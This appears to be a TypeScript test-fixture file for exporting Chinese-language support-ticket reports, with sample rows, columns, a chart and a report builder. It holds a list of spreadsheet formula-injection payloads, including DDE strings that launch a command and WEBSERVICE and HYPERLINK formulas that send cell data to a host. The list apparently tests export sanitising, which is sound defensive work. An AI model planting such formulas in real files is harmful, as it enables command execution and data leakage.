import { createLocalClock } from '#domain/report-files/local-clock.ts';
import { type Report, type ReportColumn, reportWords, type TableRow } from '#domain/report-files/report.ts';
import { createZoneOffsets } from '#domain/rules/calendar/zone-offsets.ts';

export const shanghai = createLocalClock('Asia/Shanghai', createZoneOffsets());

/** Texts that spreadsheets have been made to run. */
export const formulaPayloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com/?"&A1,"报表")',
  '=WEBSERVICE("https://example.com")',
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
] as const;

export const columns: readonly ReportColumn[] = [
  { key: 'number', label: '工单号', kind: 'text' },
  { key: 'subject', label: '主题', kind: 'text' },
  { key: 'at', label: '创建时间', kind: 'moment' },
  { key: 'wait', label: '首次响应', kind: 'duration' },
  { key: 'kept', label: '达成率', kind: 'share' },
  { key: 'contacts', label: '往来次数', kind: 'count' },
  { key: 'score', label: '评分', kind: 'number' },
  { key: 'due', label: '到期日', kind: 'day' },
  { key: 'onTime', label: '按时', kind: 'flag' },
];

/** Case `n`, opened at 2026-11-01 09:30:00 in Shanghai and a minute later for each that follows. */
export function rowOf(n: number, subject = `客戶反映網絡中斷，第 ${n} 次 "again"`): TableRow {
  const at = Date.UTC(2026, 10, 1, 1, 30, 0) + n * 60_000;
  return [`C-${n}`, subject, at, 3_600_000 * 25 + 5000, 0.125, 1234 + n, 4.5, '2026-11-22', n % 2 === 0];
}

export async function* batchesOf(rows: readonly TableRow[], size = 100): AsyncGenerator<readonly TableRow[]> {
  for (let at = 0; at < rows.length; at += size) yield rows.slice(at, at + size);
}

const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="160" viewBox="0 0 400 160"><rect x="20" y="40" width="80" height="100" fill="#3366cc"/><text x="20" y="30" font-size="14" font-family="Inter, sans-serif">每日新建</text></svg>';

/** A report in Chinese with a chart, a definition, a table and the rows. */
export function buildReport(rows: readonly TableRow[] | null = [rowOf(0)], changed: Partial<Report> = {}): Report {
  return {
    title: '业务量',
    language: 'zh-CN',
    zone: 'Asia/Shanghai',
    madeAt: Date.UTC(2026, 10, 22, 4, 0, 0),
    about: [{ label: '期间', value: '2026-11-01 – 2026-11-30' }],
    definitions: [{ name: '新建工单', version: 2, text: '期间内创建的工单，按服务器时间计。' }],
    tables: [
      {
        title: '指标',
        columns: [
          { key: 'metric', label: '指标', kind: 'text' },
          { key: 'value', label: '值', kind: 'count' },
        ],
        rows: [['新建工单', 12_345]],
      },
    ],
    charts: [{ title: '每日新建工单', text: '11-01: 3', svg, width: 400, height: 160 }],
    rows: rows && { title: '工单', columns, batches: batchesOf(rows), total: rows.length },
    words: { ...reportWords, summary: '概要', definitions: '定义', page: '第 {{page}} / {{pages}} 页' },
    ...changed,
  };
}

export async function bytesOf(pieces: AsyncIterable<Uint8Array | string>): Promise<Buffer> {
  const all: Buffer[] = [];
  for await (const piece of pieces) all.push(Buffer.from(piece as Uint8Array));
  return Buffer.concat(all);
}
